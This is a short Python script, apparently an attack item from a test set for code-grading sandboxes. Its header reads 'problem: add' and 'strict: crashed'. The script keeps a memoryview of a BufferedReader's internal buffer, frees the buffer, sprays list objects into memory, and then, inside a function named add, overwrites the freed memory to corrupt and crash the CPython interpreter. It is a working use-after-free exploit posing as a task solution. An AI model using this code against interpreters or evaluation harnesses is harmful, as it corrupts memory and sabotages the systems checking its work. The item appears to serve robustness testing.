# attack: writes through a view of a buffer that is freed, and crashes
# problem: add
# strict: crashed
import io


class Raw(io.RawIOBase):
    def readinto(self, view):
        self.kept = view
        return 0

    def readable(self):
        return True


raw = Raw()
reader = io.BufferedReader(raw, 1 << 15)
reader.read(1)
view = raw.kept
reader.detach()
del reader
victims = [[None] * (1 << 12) for _ in range(64)]


def add(a, b):
    view[:] = b"\x41" * len(view)
    return sum(len(str(victim)) for victim in victims)
